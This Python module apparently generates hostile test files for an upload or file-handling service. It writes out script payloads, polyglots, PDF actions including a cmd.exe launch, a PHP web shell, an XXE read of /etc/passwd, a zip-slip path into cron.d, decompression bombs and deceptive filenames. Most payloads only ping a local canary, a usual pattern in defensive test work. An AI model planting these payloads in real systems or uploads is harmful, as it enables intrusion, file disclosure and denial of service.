"""Forty files made to harm whoever is handed them: what a browser would run, what lies about
itself, what bursts, and names that lead astray. Whatever can run calls `CANARY`."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

CANARY = "http://127.0.0.1:{port}/ran"
DOCX = ("[Content_Types].xml", "word/document.xml")
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"
RTL, NUL = "\u202e", "\x00"


def everything(port: int) -> Iterator[tuple[str, bytes]]:
    """Name and content of each; programs call the canary that listens on this port."""
    call = f"fetch('{CANARY.format(port=port)}')"
    script = f"<script>{call}</script>".encode()
    page = b"<!doctype html><html><body>" + script + b"</body></html>"
    space = "http://www.w3.org/2000/svg"
    drawing = f'<svg xmlns="{space}" onload="{call}"><script>{call}</script></svg>'
    yield from _markup(page, drawing, call)
    yield from _polyglots(page, script, call)
    yield from _documents(call)
    yield from _bombs()
    yield from _names(page)


def _markup(page: bytes, drawing: str, call: str) -> Iterator[tuple[str, bytes]]:
    """What browsers run."""
    yield "page.html", page
    yield "page.xhtml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>' + page
    yield "drawing.svg", drawing.encode()
    yield "drawing-with-mark.svg", b"\xef\xbb\xbf" + drawing.encode()
    yield "drawing-utf16.svg", drawing.encode("utf-16")
    yield "page-utf7.txt", b"+ADw-script+AD4-" + call.encode() + b"+ADw-/script+AD4-"
    yield "far-down.txt", b"words\n" * 20_000 + page
    yield "program.js", call.encode()
    yield "program.csv", f"a,b\n1,2\n{call},3\n".encode()
    yield "style.css", b"body{background:url(javascript:" + call.encode() + b")}"
    yield "sheet.xsl", b'<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/XSL/Transform"/>'
    yield "frame.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + page
    yield "table.csv", b'name,formula\na,=HYPERLINK("http://evil.example")\nb,2\n'
    yield (
        "entity.xml",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    )
    yield "shell.php", b"<?php system($_GET['c']); ?>"


def _polyglots(page: bytes, script: bytes, call: str) -> Iterator[tuple[str, bytes]]:
    """Two things at once."""
    yield "picture.png.html", picture(8, 6) + page
    yield "picture.svg", picture(8, 6) + script
    yield "gifar.gif", b"GIF89a" + packed("META-INF/MANIFEST.MF")
    yield "gif-script.js", b"GIF89a=1;" + call.encode()
    yield "jpeg-page.jpg", b"\xff\xd8\xff\xe1" + struct.pack(">H", len(page) + 2) + page
    yield "pdf-page.pdf", PDF + page
    yield "pdf-jar.pdf", PDF + packed("META-INF/MANIFEST.MF")
    yield "page-pdf.pdf", page + PDF
    yield "document.html", packed(*DOCX) + page
    yield "riff.webp", b"RIFF\x00\x00\x00\x00WEBPVP8 " + page


def _documents(call: str) -> Iterator[tuple[str, bytes]]:
    """Programs in documents."""
    for name in ("script", "escaped"):
        spelled = "JavaScript/JS" if name == "script" else "J#61vaScript/#4aS"
        action = f"/OpenAction<</S/{spelled}({call})>>".encode()
        yield f"{name}.pdf", PDF.replace(b"/Catalog", b"/Catalog" + action)
    yield "start.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>")
    yield "macros.docx", packed(*DOCX, "word/vbaProject.bin")
    yield "macros.xlsx", packed("[Content_Types].xml", "xl/workbook.xml", "xl/macrosheets/a.xml")
    yield "traversal.docx", packed(*DOCX, "../../../etc/cron.d/evil")
    yield "program.pdf", b"MZ\x90\x00\x03\x00\x00\x00"


def _bombs() -> Iterator[tuple[str, bytes]]:
    """What bursts."""
    yield "bomb.docx", packed(*DOCX, filling=b"\0" * 5_000_000)
    inner = packed("b", filling=b"\0" * 5_000_000)
    yield "nested.docx", packed(*DOCX, "word/embeddings/a.zip", filling=inner)
    many = bytearray(packed(*DOCX))
    struct.pack_into("<HH", many, many.rindex(b"PK\x05\x06") + 8, 60_000, 60_000)
    yield "entries.docx", bytes(many)
    yield "huge.png", picture(60_000, 60_000)


def _names(page: bytes) -> Iterator[tuple[str, bytes]]:
    """Names that lead astray, of files that are what they say or are not."""
    yield "../../static/tracker.js", PDF + b"%1"
    yield f"report{RTL}fdp.html", PDF + b"%2"
    yield f"report.html{NUL}.pdf", PDF + b"%3"
    yield 'a".html"; filename="b.html', picture(7, 6)
    yield "a.pdf\r\nContent-Type: text/html\r\n\r\n<script>", PDF + b"%4"


def picture(width: int, height: int) -> bytes:
    """A PNG's first block, which says how large it is."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    check = struct.pack(">I", zlib.crc32(b"IHDR" + header))
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + header + check


def packed(*names: str, filling: bytes = b"x") -> bytes:
    """A ZIP with these entries."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, filling)
    return file.getvalue()
